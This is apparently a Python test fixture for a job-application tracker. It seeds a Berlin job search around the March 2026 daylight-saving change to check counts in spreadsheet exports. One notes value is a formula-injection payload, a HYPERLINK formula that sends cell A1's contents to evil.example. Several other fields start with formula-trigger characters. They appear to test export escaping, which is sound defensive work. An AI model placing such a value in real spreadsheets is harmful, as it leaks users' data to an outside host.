"""A small job search in Berlin around the change to summer time (Sunday 29 March 2026),
for the spreadsheet export and the proof of applications.

Worked out by hand for March 2026 (days in Europe/Berlin):

- applications: Acme on 2 March, Globex on 31 March (Initech's was in February, Hooli's
  day of application is not known) -> 2
- emails: Acme's follow-up at 00:30 on 1 March (23:30 UTC on 28 February), Acme's
  thank-you on 11 March, Globex's reply at 23:59 on 31 March (21:59 UTC) -> 3
- calls: Initech's on 5 March (not its skipped one on 6 March, and not Acme's at 00:30
  on 1 April, which is 22:30 UTC on 31 March) -> 1
- interviews: Acme's on 10 March (Initech's on 12 March was cancelled) -> 1
- companies: Acme, Globex, Initech -> 3

April 2026: Acme's call on 1 April and Hooli's interview on 2 April; 2 companies.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from followup import bootstrap
from followup.services import interchange
from followup.services.session import Deps

#: Friday 10 April 2026, 10:00 in Berlin.
NOW = datetime(2026, 4, 10, 8, tzinfo=UTC)
NAME = "Jürgen Müller"
FORMULA_NOTES = '=HYPERLINK("http://evil.example/?"&A1,"Apply")'

SEARCH: dict[str, Any] = {
    "format": "followup/1",
    "settings": {"timezone": "Europe/Berlin", "country": "DE", "name": NAME},
    "applications": [
        {
            "id": "acme-backend",
            "company": "Acme",
            "position": "Backend Engineer",
            "applied_on": "2026-03-02",
            "source": "LinkedIn",
            "link": "https://acme.example/jobs/7",
            "notes": FORMULA_NOTES,
            "contacts": [
                {"id": "ana", "name": "Ana Łukasiewicz", "role": "interviewer",
                 "email": "ana@acme.example", "name_confirmed": True},
                {"id": "hr", "name": "Rui Lopes", "role": "hr", "phone": "+49 30 1234567"},
            ],
            "interviews": [
                {"id": "iv1", "at": "2026-03-10T09:00:00+00:00", "interviewers": ["ana"]},
            ],
            "touches": [
                {"id": "t1", "at": "2026-02-28T23:30:00+00:00", "contact": "hr",
                 "channel": "email", "purpose": "status", "outcome": "sent"},
                {"id": "t2", "at": "2026-03-11T08:00:00+00:00", "contact": "ana",
                 "channel": "email", "purpose": "thank_you", "outcome": "sent",
                 "notes": "+1 for the team"},
                {"id": "t3", "at": "2026-03-31T22:30:00+00:00", "contact": "hr",
                 "channel": "phone", "purpose": "status", "outcome": "reached"},
            ],
        },
        {
            "id": "globex-data",
            "company": "@Globex",
            "position": "-Data Analyst",
            "status": "active",
            "applied_on": "2026-03-31",
            "touches": [
                {"id": "t1", "at": "2026-03-31T21:59:00+00:00", "channel": "email",
                 "purpose": "status", "outcome": "replied", "decision": "rejected"},
            ],
        },
        {
            "id": "initech-frontend",
            "company": "Initech",
            "position": "Frontend Developer",
            "applied_on": "2026-02-27",
            "interviews": [
                {"id": "iv1", "at": "2026-03-12T09:00:00+00:00", "cancelled": True},
            ],
            "touches": [
                {"id": "t1", "at": "2026-03-05T10:00:00+00:00", "channel": "phone",
                 "purpose": "status", "outcome": "no_answer"},
                {"id": "t2", "at": "2026-03-06T10:00:00+00:00", "channel": "phone",
                 "purpose": "status", "outcome": "skipped"},
            ],
        },
        {
            "id": "hooli-platform",
            "company": "Hooli",
            "position": "Platform Engineer",
            "recorded_on": "2026-03-20",
            "interviews": [{"id": "iv1", "at": "2026-04-02T08:00:00+00:00"}],
        },
    ],
}  # fmt: skip


def berlin_search(db: Path, now: datetime = NOW) -> Deps:
    deps = bootstrap.build(str(db), now)
    interchange.import_data(deps, SEARCH, now=now)
    return deps
